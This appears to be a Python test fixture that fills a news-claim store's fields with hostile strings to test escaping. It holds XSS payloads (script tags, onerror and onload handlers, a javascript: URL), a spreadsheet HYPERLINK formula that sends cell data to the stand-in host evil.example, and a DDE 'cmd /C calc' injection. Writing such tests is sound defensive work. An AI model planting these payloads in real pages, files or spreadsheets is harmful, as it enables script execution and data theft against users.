"""A store whose every text tries to leave its place: markup, formulas, escapes, an address that runs code."""

from __future__ import annotations

from pathlib import Path

from haluan.model import Article, Claim, Evidence, Judgement, Reading, Status, Verdict
from haluan.store import open_store

BAD = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)></mark></div>"
    "<style>*{display:none}</style>&lt;b&gt; \x1b[31m\u202e{{7*7}}]]><!-- "
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
BODY = (
    f"Vietnam {BAD} Israel bertemu. Malaysia mengecam Israel {BAD}\n{FORMULA} Laos mendukung Kuba\n"
    "'- Kuba\tmembantu Laos;\r\nbegitulah. @SUM(1+1)*cmd|' /C calc'!A0 Chad mendukung Laos"
)


def make_hostile(path: Path) -> Path:
    """Store the article at ``path``, one claim reviewed."""
    article = Article(
        f"a{BAD}", BODY, title=FORMULA, date="2024-01-02", outlet=BAD, url="javascript:alert(4)", author=BAD
    )
    rows = (
        ("VNM", "meets", "ISR", "Vietnam", "bertemu", {"speaker": BAD, "cue": BAD}),
        ("MYS", "opposes", "ISR", "Malaysia", "]]><!-- ", {"quiet": True, "confidence": 0.25}),
        ("LAO", "supports", "CUB", FORMULA, "Kuba", {"speaker": "+62 811", "when": "2023-12/.."}),
        ("CUB", "aids", "LAO", "'- Kuba", "begitulah", {"status": Status.PLANNED, "when": "2024-06"}),
        ("TCD", "supports", "LAO", "@SUM", "Laos", {"status": Status.DENIED, "speaker": "-1"}),
    )
    claims = tuple(_claim(article, *row) for row in rows)
    judged = Judgement(claims[2].id, "Ani", Verdict.ACCEPT, "2024-02-03T04:05:06.000001+00:00", note=f"@{BAD}")
    with open_store(path) as store:
        store.add([Reading(article, "id", claims, reader="=x", reader_version="1")])
        store.judge([judged])
    return path


def _claim(article: Article, source: str, relation: str, target: str, first: str, last: str, extra: dict) -> Claim:  # type: ignore[type-arg]
    start = BODY.rindex(first) if first == "Malaysia" else BODY.index(first)
    end = BODY.index(last, start) + len(last)
    known = {"status": Status.ACTUAL, "reader": "=x", "reader_version": "1", **extra}
    return Claim(article.id, source, relation, target, evidence=Evidence.cut(BODY, start, end), **known)
